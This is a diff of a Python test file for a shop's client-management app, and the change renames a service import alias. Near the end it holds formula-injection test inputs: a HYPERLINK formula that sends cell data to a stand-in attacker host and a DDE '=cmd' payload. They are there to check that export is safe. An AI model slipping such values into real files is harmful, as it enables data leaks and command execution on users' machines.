@@ -43,7 +43,7 @@ from app.models.enums import (
     TaskStatus,
     Tone,
 )
-from app.services import clients as cs
+from app.services import clients as client_service
 from app.services.complaints import open_complaint
 from app.services.io.export import (
     FORMULA_START,
@@ -57,7 +57,7 @@ from app.services.validation import phone_digits
 
 TODAY = date(2026, 11, 1)
 NOW = datetime(2026, 11, 1, 10, 0)
-RULES = cs.StatusRules(today=TODAY, new_until_purchases=3, default_gap_days=90,
+RULES = client_service.StatusRules(today=TODAY, new_until_purchases=3, default_gap_days=90,
                        gap_multiplier=Decimal(2), lapsed_after_days=365)
 
 CLIENT_KEYS = ["id", "name", "kind", "card_number", "phone", "email", "preferred_channel",
@@ -75,17 +75,17 @@ KEYS = {"clients": CLIENT_KEYS, "purchases": PURCHASE_KEYS, "contacts": CONTACT_
 # --------------------------------------------------------------------------- helpers
 
 
-def save(db, data: cs.ClientData) -> int:
+def save(db, data: client_service.ClientData) -> int:
     with db.session() as s:
-        return cs.save_client(s, data, region="PL", today=TODAY)
+        return client_service.save_client(s, data, region="PL", today=TODAY)
 
 
-def purchases(*rows) -> list[cs.PurchaseData]:
+def purchases(*rows) -> list[client_service.PurchaseData]:
     """(day, amount[, item[, note[, is_credit]]]) -> PurchaseData list."""
     out = []
     for r in rows:
         day, amount, item, note, credit = (tuple(r) + ("", "", False)[len(r) - 2:])[:5]
-        out.append(cs.PurchaseData(purchased_on=day, amount=Decimal(amount), item=item,
+        out.append(client_service.PurchaseData(purchased_on=day, amount=Decimal(amount), item=item,
                                    note=note, is_credit=credit))
     return out
 
@@ -150,7 +150,7 @@ def shop(db):
     """A Polish client, a Cyrillic one referred by her, one in the Trash, one erased,
     with purchases and contacts."""
     ids = {}
-    ids["lucja"] = save(db, cs.ClientData(
+    ids["lucja"] = save(db, client_service.ClientData(
         name="Łucja Żółtowska", phone="601 234 567", email="lucja@example.pl",
         external_ref="K-001", preferred_channel=Channel.PHONE, marketing_consent=True,
         marketing_consent_on=date(2026, 1, 15), source_channel="polecenie",
@@ -158,15 +158,15 @@ def shop(db):
         notes="Lubi róże", preferences="bez glutenu", tags=["VIP"],
         purchases=purchases((date(2026, 3, 1), "12.50", "Róża czerwona", "na urodziny"),
                             (date(2026, 5, 10), "100.00", "Bukiet"))))
-    ids["yulia"] = save(db, cs.ClientData(
+    ids["yulia"] = save(db, client_service.ClientData(
         name="Юлия Петрова", email="yulia@example.ru", do_not_contact=True,
         referred_by_id=ids["lucja"], notes="Звонить вечером",
         purchases=purchases((date(2026, 4, 2), "7.05", "Тюльпаны"),
                             (date(2026, 4, 20), "-7.05", "Возврат", "", True))))
-    ids["trash"] = save(db, cs.ClientData(
+    ids["trash"] = save(db, client_service.ClientData(
         name="Tomasz Kosz", external_ref="K-003",
         purchases=purchases((date(2026, 2, 2), "30.00", "Storczyk"))))
-    ids["erased"] = save(db, cs.ClientData(
+    ids["erased"] = save(db, client_service.ClientData(
         name="Ewa Zapomniana", phone="602 111 222", external_ref="K-004",
         purchases=purchases((date(2026, 1, 5), "45.99", "Wieniec", "prywatne"))))
     with db.session() as s:
@@ -177,7 +177,7 @@ def shop(db):
                     outcome=Outcome.DECLINED, decline_reason="дорого", note="Позже")
         add_contact(s, ids["erased"], datetime(2026, 5, 5, 11, 0), note="tajne")
         add_contact(s, ids["trash"], datetime(2026, 5, 6, 12, 0), note="w koszu")
-        cs.soft_delete(s, [ids["trash"]])
+        client_service.soft_delete(s, [ids["trash"]])
         erase_client(s, ids["erased"], NOW)
     return ids
 
@@ -362,7 +362,7 @@ def test_only_trash_and_erased_clients_gives_header_only(db, make_client, tmp_pa
     a = make_client("Adam Kosz")
     b = make_client("Beata Usunięta")
     with db.session() as s:
-        cs.soft_delete(s, [a])
+        client_service.soft_delete(s, [a])
         erase_client(s, b, NOW)
         assert export_table(s, "clients", tmp_path / "c.csv") == 0
     assert read_csv(tmp_path / "c.csv") == [CLIENT_KEYS]
@@ -406,18 +406,18 @@ def rich_client(db, name: str, *, external_ref: str = "", phone: str = "", email
                 notes: str = "", tags=(), consent: bool = True,
                 purchase_rows=(), referred_by_id=None, relative="Jan",
                 membership: bool = True) -> int:
-    rel = cs.RelativeData(name=f"{relative} ({name})", relation=Relation.SPOUSE, note="mąż")
-    data = cs.ClientData(
+    rel = client_service.RelativeData(name=f"{relative} ({name})", relation=Relation.SPOUSE, note="mąż")
+    data = client_service.ClientData(
         name=name, external_ref=external_ref, phone=phone, email=email, notes=notes,
         preferences="herbata", tags=list(tags), marketing_consent=consent,
         marketing_consent_on=date(2026, 1, 10) if consent else None,
         referred_by_id=referred_by_id, contact_from=None, contact_to=None,
         relatives=[rel],
-        dates=[cs.PersonalDateData(kind=DateKind.BIRTHDAY, month=3, day=14, year=1980),
-               cs.PersonalDateData(kind=DateKind.NAME_DAY, month=7, day=26,
+        dates=[client_service.PersonalDateData(kind=DateKind.BIRTHDAY, month=3, day=14, year=1980),
+               client_service.PersonalDateData(kind=DateKind.NAME_DAY, month=7, day=26,
                                    relative_key=rel.key, label="imieniny")],
         purchases=purchases(*purchase_rows),
-        memberships=[cs.MembershipData(plan="Karnet miesięczny", starts_on=date(2026, 10, 1),
+        memberships=[client_service.MembershipData(plan="Karnet miesięczny", starts_on=date(2026, 10, 1),
                                        ends_on=date(2026, 10, 31), price=Decimal("99.90"),
                                        note="student")] if membership else [])
     return save(db, data)
@@ -547,12 +547,12 @@ def test_erase_client_removes_personal_data_and_keeps_revenue(db, tmp_path):
                                      (date(2026, 9, 9), "87.49", "Bukiet")])
     extras = add_extras(db, cid, contacts=2,
                         tasks=(TaskStatus.OPEN, TaskStatus.SNOOZED, TaskStatus.DONE))
-    referred = save(db, cs.ClientData(name="Polecona Przez Łucję", referred_by_id=cid))
+    referred = save(db, client_service.ClientData(name="Polecona Przez Łucję", referred_by_id=cid))
     bystander = rich_client(db, "Jan Obok", tags=["VIP"],
                             purchase_rows=[(date(2026, 4, 4), "20.00")])
     with db.session() as s:
-        assert cid in cs.client_ids(s, cs.ClientQuery(text="Łucja Żółtowska"), RULES, "PL")
-        assert cid in cs.client_ids(s, cs.ClientQuery(text="601 234 567"), RULES, "PL")
+        assert cid in client_service.client_ids(s, client_service.ClientQuery(text="Łucja Żółtowska"), RULES, "PL")
+        assert cid in client_service.client_ids(s, client_service.ClientQuery(text="601 234 567"), RULES, "PL")
         before = purchase_totals(s)
         own_before = sorted((p.purchased_on, p.amount, p.item) for p in
                             s.scalars(select(Purchase).where(Purchase.client_id == cid)))
@@ -614,7 +614,7 @@ def test_erase_client_removes_personal_data_and_keeps_revenue(db, tmp_path):
         # no longer found by name, phone or card number
         for text in ("Łucja Żółtowska", "łucja", "Żółtowska", "601 234 567", "K-77",
                      "lucja@example.pl"):
-            assert cid not in cs.client_ids(s, cs.ClientQuery(text=text), RULES, "PL"), text
+            assert cid not in client_service.client_ids(s, client_service.ClientQuery(text=text), RULES, "PL"), text
         n = export_table(s, "clients", tmp_path / "clients.csv")
     rows = read_csv(tmp_path / "clients.csv")
     assert n == 2 and len(rows) == 3
@@ -690,7 +690,7 @@ def test_merge_moves_everything_into_the_kept_client(db, tmp_path):
     other_extras = add_extras(db, other, contacts=2,
                               tasks=(TaskStatus.OPEN, TaskStatus.DONE),
                               quarters=[("2026Q2", Segment.C), ("2026Q3", Segment.B)])
-    referred = save(db, cs.ClientData(name="Polecona", referred_by_id=other))
+    referred = save(db, client_service.ClientData(name="Polecona", referred_by_id=other))
     with db.session() as s:
         k_before, o_before = snapshot(s, keep), snapshot(s, other)
         totals_before = purchase_totals(s)
@@ -755,7 +755,7 @@ def test_merge_moves_everything_into_the_kept_client(db, tmp_path):
         assert purchase_totals(s) == totals_before
         # found by the removed client's card number and e-mail now
         for text in ("K-100", "anna@example.pl", "Alergia"):
-            found = cs.client_ids(s, cs.ClientQuery(text=text), RULES, "PL")
+            found = client_service.client_ids(s, client_service.ClientQuery(text=text), RULES, "PL")
             assert found == [keep], text
         export_table(s, "clients", tmp_path / "c.csv")
     rows = read_csv(tmp_path / "c.csv")
@@ -766,13 +766,13 @@ def test_merge_moves_everything_into_the_kept_client(db, tmp_path):
 @pytest.mark.parametrize("keep_first", [True, False], ids=["keep-older", "keep-newer"])
 def test_merge_moves_the_card_number_without_a_unique_clash(db, keep_first):
     if keep_first:
-        keep = save(db, cs.ClientData(name="Stara Karta"))
-        other = save(db, cs.ClientData(name="Nowa Karta", external_ref="CARD-1",
+        keep = save(db, client_service.ClientData(name="Stara Karta"))
+        other = save(db, client_service.ClientData(name="Nowa Karta", external_ref="CARD-1",
                                        purchases=purchases((date(2026, 3, 3), "5.00"))))
     else:
-        other = save(db, cs.ClientData(name="Nowa Karta", external_ref="CARD-1",
+        other = save(db, client_service.ClientData(name="Nowa Karta", external_ref="CARD-1",
                                        purchases=purchases((date(2026, 3, 3), "5.00"))))
-        keep = save(db, cs.ClientData(name="Stara Karta"))
+        keep = save(db, client_service.ClientData(name="Stara Karta"))
     with db.session() as s:
         merge_clients(s, keep, other, TODAY)
     with db.session() as s:
@@ -780,13 +780,13 @@ def test_merge_moves_the_card_number_without_a_unique_clash(db, keep_first):
         c = s.get(Client, keep)
         assert c.external_ref == "CARD-1"
         assert c.purchase_count == 1
-        assert cs.client_ids(s, cs.ClientQuery(text="CARD-1"), RULES, "PL") == [keep]
+        assert client_service.client_ids(s, client_service.ClientQuery(text="CARD-1"), RULES, "PL") == [keep]
 
 
 def test_merge_keeps_the_kept_clients_own_values(db):
-    keep = save(db, cs.ClientData(name="Keep", phone="601 111 111", email="keep@x.pl",
+    keep = save(db, client_service.ClientData(name="Keep", phone="601 111 111", email="keep@x.pl",
                                   external_ref="K-1", notes="same note"))
-    other = save(db, cs.ClientData(name="Other", phone="602 222 222", email="other@x.pl",
+    other = save(db, client_service.ClientData(name="Other", phone="602 222 222", email="other@x.pl",
                                    external_ref="K-2", notes="same note"))
     with db.session() as s:
         merge_clients(s, keep, other, TODAY)
@@ -798,8 +798,8 @@ def test_merge_keeps_the_kept_clients_own_values(db):
 
 
 def test_merge_when_the_kept_client_was_referred_by_the_removed_one(db):
-    other = save(db, cs.ClientData(name="Poleca"))
-    keep = save(db, cs.ClientData(name="Polecona", referred_by_id=other))
+    other = save(db, client_service.ClientData(name="Poleca"))
+    keep = save(db, client_service.ClientData(name="Polecona", referred_by_id=other))
     with db.session() as s:
         merge_clients(s, keep, other, TODAY)
     with db.session() as s:
@@ -810,9 +810,9 @@ def test_merge_when_the_kept_client_was_referred_by_the_removed_one(db):
 
 
 def test_merge_takes_the_removed_clients_referrer(db):
-    referrer = save(db, cs.ClientData(name="Polecający"))
-    keep = save(db, cs.ClientData(name="Keep"))
-    other = save(db, cs.ClientData(name="Other", referred_by_id=referrer))
+    referrer = save(db, client_service.ClientData(name="Polecający"))
+    keep = save(db, client_service.ClientData(name="Keep"))
+    other = save(db, client_service.ClientData(name="Other", referred_by_id=referrer))
     with db.session() as s:
         merge_clients(s, keep, other, TODAY)
     with db.session() as s:
@@ -851,7 +851,7 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "
 def dangerous_shop(db) -> int:
     """A client, a purchase and a call whose texts all look like formulas (as an import
     of someone else's file can bring them)."""
-    cid = save(db, cs.ClientData(
+    cid = save(db, client_service.ClientData(
         name="Anna Nowak", phone="601 234 567", notes=DANGEROUS[0], preferences=DANGEROUS[3],
         source_channel=DANGEROUS[2], segment_override=Segment.B,
         segment_override_reason=DANGEROUS[1], tags=["=cmd|' /C calc'!A0"],
